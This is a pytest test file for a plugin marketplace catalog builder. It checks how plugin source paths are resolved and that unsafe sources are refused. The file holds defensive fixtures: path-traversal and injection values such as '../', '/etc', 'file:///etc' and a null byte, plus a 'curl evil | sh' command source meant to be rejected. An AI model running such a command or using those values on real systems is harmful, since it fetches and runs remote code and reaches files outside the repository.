import pytest

from tests.marketplaces.manifest.builder import catalog_of, codes, entry, paths, the

FILES = {"plugins/tools/a.md": "x", "README.md": "x"}


@pytest.mark.parametrize(
    "source", ["./plugins/tools", "plugins/tools", "./plugins/tools/", "././plugins//tools"]
)
def test_a_source_is_a_folder_of_the_repository(source):
    (plugin,) = catalog_of(FILES, entry(source=source)).plugins
    assert paths(plugin) == ["a.md"]


@pytest.mark.parametrize("source", ["./", ".", "././"])
def test_the_root_itself_may_be_the_plugin(source):
    (plugin,) = catalog_of(FILES, entry(source=source)).plugins
    assert paths(plugin) == [".claude-plugin/marketplace.json", "README.md", "plugins/tools/a.md"]


@pytest.mark.parametrize("plugin_root", ["./plugins", "plugins", "plugins/"])
def test_a_bare_name_is_below_the_plugin_root(plugin_root):
    (plugin,) = catalog_of(FILES, entry(source="tools"), metadata={"pluginRoot": plugin_root}).plugins
    assert paths(plugin) == ["a.md"]


def test_a_source_that_begins_with_a_dot_is_not():
    assert codes(catalog_of(FILES, entry(source="./tools"), metadata={"pluginRoot": "./plugins"})) == [
        "source_missing"
    ]


@pytest.mark.parametrize(
    "source",
    [
        "../other", "./plugins/../../etc", "..", "/etc", "~/x", "plugins\\tools", "https://host/x.git", "git@host:x",
        "file:///etc", "", "./x\x00", "./.git/x", "./a\ud800", "./-x", "C:/x",
    ],
)  # fmt: skip
def test_a_source_that_names_no_folder_of_the_repository_is_refused(source):
    catalog = catalog_of(FILES, entry(source=source))
    assert catalog.plugins == ()
    assert the(catalog, "source_refused").severity == "error"


def test_a_plugin_root_that_leads_out_is_refused_with_what_is_below_it():
    assert codes(catalog_of(FILES, entry(source="x"), metadata={"pluginRoot": "../.."})) == ["source_refused"]


@pytest.mark.parametrize("source", ["./gone", "./plug", "./README.md", "./Plugins/tools"])
def test_a_folder_that_is_not_there_is_said(source):
    catalog = catalog_of(FILES, entry(source=source))
    assert catalog.plugins == ()
    assert source.removeprefix("./") in the(catalog, "source_missing").reason


@pytest.mark.parametrize("kind", ["npm", "archive", "something-new"])
def test_a_plugin_that_is_in_no_repository_is_not_served(kind):
    catalog = catalog_of(
        FILES, entry(source={"source": kind, "url": "https://host/x.git"}), entry("b", "./plugins/tools")
    )
    assert [plugin.name for plugin in catalog.plugins] == ["b"]
    finding = the(catalog, "external_source")
    assert finding.severity == "error"
    assert f"does not mirror sources of the kind “{kind}”" in finding.reason


@pytest.mark.parametrize("source", [{}, {"source": ["x"]}, {"source": None}])
def test_a_source_object_without_a_kind_is_not_served(source):
    assert codes(catalog_of(FILES, entry(source=source))) == ["external_source"]


def test_a_source_that_runs_a_command_is_never_served():
    catalog = catalog_of(FILES, entry(source={"source": "command", "command": "curl evil | sh"}))
    assert catalog.plugins == ()
    finding = the(catalog, "command_source_refused")
    assert finding.severity == "error"
    assert "curl" not in finding.reason
